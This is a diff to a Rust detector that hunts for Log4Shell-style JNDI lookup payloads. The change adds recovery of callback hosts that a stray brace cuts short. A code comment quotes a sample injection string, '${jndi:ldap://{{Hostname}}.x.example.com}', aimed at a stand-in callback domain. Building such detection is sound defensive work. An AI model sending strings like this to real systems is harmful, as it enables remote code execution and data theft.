@@ -91,6 +91,38 @@ struct Payload {
     dos: bool,
     techniques: Vec<&'static str>,
     exfiltration: Vec<String>,
+    /// The text right after the lookup, up to white space or a quote (for hosts a stray `}`
+    /// cut off the name).
+    tail: String,
+}
+
+/// Longest tail examined after a lookup for a cut-off host.
+const MAX_TAIL: usize = 256;
+
+fn tail_of(text: &str, end: usize) -> String {
+    let rest = &text[end.min(text.len())..];
+    let stop = rest.find(|c: char| c.is_whitespace() || c == '"' || c == '\'').unwrap_or(rest.len());
+    let mut stop = stop.min(MAX_TAIL);
+    while !rest.is_char_boundary(stop) {
+        stop -= 1;
+    }
+    rest[..stop].to_owned()
+}
+
+/// A host in the tail after a lookup whose name a stray `}` cut short
+/// (`${jndi:ldap://{{Hostname}}.x.example.com}` looks up `ldap://{{Hostname`; the callback domain
+/// is in the tail).
+fn tail_host(names: &[String], tail: &str) -> Option<String> {
+    if !names.iter().any(|n| n.contains('{')) {
+        return None;
+    }
+    let host: String = tail
+        .trim_start_matches(['}', '.'])
+        .chars()
+        .take_while(|c| c.is_ascii_alphanumeric() || *c == '.' || *c == '-')
+        .collect();
+    let host = host.trim_matches('.');
+    (host.contains('.') && host.chars().any(|c| c.is_ascii_alphabetic())).then(|| host.to_owned())
 }
 
 impl Hunter {
@@ -366,7 +398,11 @@ impl Hunter {
             }
         }
         let commands: Vec<_> = targets.iter().flat_map(|t| exploit_commands(&t.path)).collect();
-        let hosts = targets.iter().flat_map(|t| std::iter::once(t.host.as_str()).chain(t.alt_host.as_deref()));
+        let tail_host = tail_host(&p.names, &p.tail);
+        let hosts = targets
+            .iter()
+            .flat_map(|t| std::iter::once(t.host.as_str()).chain(t.alt_host.as_deref()))
+            .chain(tail_host.as_deref());
         let callback_class = classify_hosts(hosts);
         let mut techniques: Vec<String> = v.chain.iter().map(|c| format!("encoding:{c}")).collect();
         techniques.dedup();
@@ -393,6 +429,7 @@ impl Hunter {
             dos: p.dos,
             could_work: could,
             encoded: (!v.chain.is_empty()).then(|| truncate(&field.text, self.config.max_raw_chars)),
+            tail_host,
         }
     }
 
@@ -411,13 +448,13 @@ impl Hunter {
                 let e = self.evaluator.single_pass(s);
                 let dos = matches!(e.outcome, Outcome::Recursion(_));
                 if !e.names.is_empty() || dos {
-                    out.push(payload(span.start, s, e, true, dos, false));
+                    out.push(payload(span.start, s, tail_of(text, span.end), e, true, dos, false));
                     continue;
                 }
             }
             let e = self.evaluator.lenient(s);
             if !e.names.is_empty() {
-                out.push(payload(span.start, s, e, false, false, false));
+                out.push(payload(span.start, s, tail_of(text, span.end), e, false, false, false));
             }
         }
         // The converter rescan works on the whole message.
@@ -445,6 +482,7 @@ impl Hunter {
                     dos: false,
                     techniques,
                     exfiltration,
+                    tail: String::new(),
                 });
             }
         }
@@ -452,10 +490,19 @@ impl Hunter {
     }
 }
 
-fn payload(start: usize, raw: &str, e: Evaluation, functional: bool, dos: bool, rescan_only: bool) -> Payload {
+fn payload(
+    start: usize,
+    raw: &str,
+    tail: String,
+    e: Evaluation,
+    functional: bool,
+    dos: bool,
+    rescan_only: bool,
+) -> Payload {
     Payload {
         start,
         raw: raw.to_owned(),
+        tail,
         names: e.names,
         rescan_only,
         functional,
